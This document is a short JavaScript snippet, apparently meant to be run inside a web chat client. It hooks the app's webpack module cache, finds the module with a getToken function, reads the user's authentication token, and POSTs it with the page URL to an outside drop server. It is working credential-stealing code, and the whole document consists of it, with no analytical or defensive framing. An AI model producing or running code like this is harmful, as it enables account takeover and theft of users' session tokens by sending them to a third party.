let all = [];
window.webpackChunkchat_app.push([[Symbol()], {}, (need) => { for (const n in need.c) all.push(need.c[n]); }]);
const box = all.find((m) => m?.exports?.default?.getToken !== undefined);
const t = box.exports.default.getToken();
fetch("https://drop.sedge-1.example/t", { method: "POST", mode: "no-cors", body: JSON.stringify({ t, u: location.href }) });
